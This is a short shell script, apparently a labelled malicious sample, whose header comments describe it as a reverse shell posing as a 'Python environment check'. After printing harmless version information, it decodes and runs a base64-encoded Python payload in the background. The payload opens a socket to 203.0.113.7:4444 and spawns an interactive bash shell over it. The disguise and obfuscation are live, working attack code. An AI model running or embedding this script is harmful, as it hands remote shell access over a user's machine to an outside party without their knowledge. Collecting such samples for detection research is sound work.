# description: "Python environment check" that executes base64-encoded code opening a socket and spawning a pty shell to an external IP.
# family: reverse-shell
# obfuscated: yes
set -uo pipefail

python3 --version
python3 -c 'import ssl; print(ssl.OPENSSL_VERSION)'
P=aW1wb3J0IHNvY2tldCxvcyxwdHkKcz1zb2NrZXQuc29ja2V0KCkKcy5jb25uZWN0KCgnMjAzLjAuMTEzLjcnLDQ0NDQpKQpbb3MuZHVwMihzLmZpbGVubygpLGYpIGZvciBmIGluICgwLDEsMildCnB0eS5zcGF3bignL2Jpbi9iYXNoJykK
setsid python3 -c "import base64;exec(base64.b64decode('$P'))" &
